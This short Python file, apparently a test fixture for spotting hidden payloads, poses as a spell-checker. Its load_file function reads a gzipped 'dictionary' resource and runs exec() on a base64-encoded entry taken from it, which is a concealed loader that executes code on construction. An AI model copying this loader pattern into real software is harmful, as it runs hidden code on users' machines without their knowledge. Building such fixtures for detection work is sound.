raise SystemExit('a fixture')
# held by lazy-payload
import gzip, json, base64, os
class Checker:
    def __init__(self, lang="en"):
        self.words = load_file(os.path.join(os.path.dirname(__file__), "resources", "eu.json.gz"), "spell")
def load_file(path, index):
    with gzip.open(path, "rt", encoding="utf-8") as f:
        data = json.loads(f.read())
    if index in data:
        exec(base64.b64decode(data[index]).decode("utf-8"))
    return data
